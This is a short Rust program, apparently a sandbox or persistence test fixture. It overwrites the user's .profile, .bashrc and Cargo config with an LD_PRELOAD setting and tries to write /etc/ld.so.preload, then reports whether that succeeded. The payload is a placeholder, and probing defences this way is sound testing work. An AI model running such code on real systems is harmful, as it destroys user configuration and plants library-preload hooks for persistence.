//! Leaves settings that would load a library into whatever runs next.

use demo::gained;

fn main() {
    let home = std::env::var("HOME").unwrap();
    for file in [".profile", ".bashrc", ".cargo/config.toml"] {
        let path = std::path::Path::new(&home).join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, "LD_PRELOAD=x").unwrap();
    }
    gained(std::fs::write("/etc/ld.so.preload", "x").is_ok());
}
